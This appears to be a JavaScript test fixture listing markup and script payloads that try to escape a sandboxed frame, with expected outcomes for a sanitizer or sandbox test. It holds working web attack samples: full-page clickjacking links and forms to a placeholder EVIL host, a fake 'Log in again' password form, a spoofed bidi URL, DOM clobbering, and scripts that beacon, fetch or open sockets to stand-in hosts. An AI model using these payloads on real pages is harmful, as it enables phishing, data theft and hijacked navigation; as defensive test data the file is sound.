// Markup that wants out of its frame: elsewhere with the reader, or into the names of the page around it.

const everywhere =
  'position:fixed;inset:0;display:block;width:9999px;height:9999px;z-index:2147483647';

export const escapes = [
  ['link to _top', `<a href="EVIL/top" target=_top style="${everywhere}">x</a>`, 'request'],
  [
    'link to _parent',
    `<a href="EVIL/parent" target=_parent style="${everywhere}">x</a>`,
    'request',
  ],
  [
    'link to a new window with an opener',
    `<a href="EVIL/new" target=evil rel=opener style="${everywhere}">x</a>`,
    'request',
  ],
  ['link in this frame', `<a href="EVIL/self" target=_self style="${everywhere}">x</a>`, 'request'],
  [
    'area',
    '<img usemap="#m" style="width:900px;height:500px" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"><map name=m><area shape=default href="EVIL/area" target=_top></map>',
    'request',
  ],
  ['base target', `<base target=_top><a href="EVIL/base" style="${everywhere}">x</a>`, 'request'],
  [
    'form',
    `<form action="EVIL/form" target=_top><input name=a value=secret><button style="${everywhere}">x</button></form>`,
    'request',
  ],
  [
    'form by GET',
    `<form action="EVIL/form" method=get><input type=submit style="${everywhere}"></form>`,
    'request',
  ],
  [
    'form from outside',
    `<form id=f></form><button form=f formaction="EVIL/form" formtarget=_top style="${everywhere}">x</button>`,
    'request',
  ],
  [
    'form by a label',
    `<form action="EVIL/form"><input type=submit id=s></form><label for=s style="${everywhere}">x</label>`,
    'request',
  ],
  [
    'password field',
    `<form action="EVIL/form"><input type=password name=p autofocus><button style="${everywhere}">Log in again</button></form>`,
    'request',
  ],
  ['download', `<a href="EVIL/file.exe" download style="${everywhere}">x</a>`, 'request'],
  [
    'data: download',
    `<a href="data:application/octet-stream,x" download=x.exe style="${everywhere}">x</a>`,
    'download',
  ],
  ['mailto:', `<a href="mailto:x@example.org?attach=/etc/passwd" style="${everywhere}">x</a>`],
  [
    'bidi link',
    `<a href="http://\u202Emoc.elpmaxe@HOST/bidi" target=_top style="${everywhere}">bank.example\u202E</a>`,
    'request',
  ],
  [
    'clobbered names',
    '<a id=document name=document><a id=location name=location><img name=cookie><form name=body><input name=appendChild><input id=attributes></form><iframe name=trustedTypes></iframe>',
  ],
  [
    'clobbered names of the component',
    '<form id=wafer-letter-view name=customElements><input name=letter><input name=renderRoot></form><a id=hurt><a id=hurt name=toString href="EVIL/x">',
  ],
  [
    'clobbered form',
    '<form onsubmit=1><input name=attributes><input name=nodeName><input name=removeChild><input name=parentNode><input name=setAttribute></form>',
  ],
  ['parent', '<script>parent.document.body.dataset.hurt=1</script>', 'page'],
  ['message', '<script>parent.postMessage("hurt","*")</script>', 'message'],
  ['top', '<script>top.location="EVIL/top"</script>', 'request'],
  ['window', '<script>open("EVIL/window")</script>', 'request'],
  ['dialog', '<script>alert(1)</script>', 'dialog'],
  [
    'worker',
    '<script>new Worker(URL.createObjectURL(new Blob(["fetch(\'EVIL/worker\')"])))</script>',
    'request',
  ],
  ['socket', '<script>new WebSocket("ws://HOST/socket")</script>', 'connection'],
  ['beacon', '<script>navigator.sendBeacon("EVIL/beacon","x")</script>', 'request'],
  [
    'full screen and pointer lock',
    '<script>document.documentElement.requestFullscreen();HURT</script>',
    'script',
  ],
  ['history', '<script>HURT;history.pushState(1,"","#x")</script>', 'script'],
];
